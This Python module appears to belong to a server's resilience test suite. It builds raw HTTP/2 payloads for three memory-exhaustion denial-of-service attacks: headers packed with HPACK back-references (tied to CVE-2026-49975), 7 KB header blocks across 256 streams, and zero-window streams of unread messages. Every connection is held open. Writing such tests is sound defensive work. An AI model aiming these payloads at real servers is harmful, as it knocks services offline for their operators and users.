"""Calls that stay open, and make the server hold more than they look."""

from attack import ALWAYS_SHORT, Attack
from http2_bytes import (DATA, INITIAL_WINDOW_SIZE, NEWEST_ENTRY, NO_MESSAGE,
                         PREFACE, WATCH, block, data, frame, headers, literal,
                         settings)
from questions import CLASSIFY_STREAM, SMALL, begun, streams

HELLO = PREFACE + settings()
CALLS = 256  # as many as a connection may have
# As many fields as fit into 8 KiB, of 34 bytes each by HTTP/2's count.
REFERENCES = 225
CONNECTIONS_WITH_REFERENCES = 64
MESSAGES = 64  # as many as a stream may have waiting


def and_stays(blob, scale):
    def script(me):
        yield blob
        yield 2 * scale.seconds
    return script


def watching(head_of):
    """Watches of the health, each with a head of its own."""
    return HELLO + b"".join(
        headers(stream, head_of(stream)) + data(stream, NO_MESSAGE)
        for stream in streams(CALLS))


def watches_with_references(crowd, scale):
    """Heads of one-byte references to a tiny entry (CVE-2026-49975)."""
    plain = block(WATCH)
    entry = literal(b"x", b"y", how=b"\x40")
    blob = watching(lambda stream: (plain + (entry if stream == 1 else b"")
                                    + NEWEST_ENTRY * REFERENCES))
    connections = CONNECTIONS_WITH_REFERENCES
    crowd.run([and_stays(blob, scale)] * connections, connections)
    return (f"{connections} x {CALLS} watches, each with {REFERENCES} "
            "references to a header of 2 bytes")


def watches_with_large_heads(crowd, scale):
    plain = block(WATCH)
    blob = watching(lambda stream: (plain + literal(b"x-hoard",
                                                    b"%07d" % stream * 1000)))
    connections = scale.hoarders
    crowd.run([and_stays(blob, scale)] * connections, connections)
    return f"{connections} x {CALLS} watches with heads of 7 KB"


def streams_of_tiny_messages(crowd, scale):
    """Streams whose replies have no window, with all messages that they may."""
    blob = (PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
            + b"".join(begun(stream, CLASSIFY_STREAM)
                       + frame(DATA, 0, stream, SMALL * MESSAGES)
                       for stream in streams(CALLS)))
    connections = scale.hoarders
    crowd.run([and_stays(blob, scale)] * connections, connections)
    return f"{connections} x {CALLS} streams of {MESSAGES} unread answers"


ATTACKS = [
    Attack(attack.__name__, attack, network_mib=64, request_mib=1)
    for attack in (watches_with_references, watches_with_large_heads)
] + [
    Attack("streams_of_tiny_messages", streams_of_tiny_messages,
           network_mib=64, request_mib=1, skipped_if_sanitized=ALWAYS_SHORT),
]
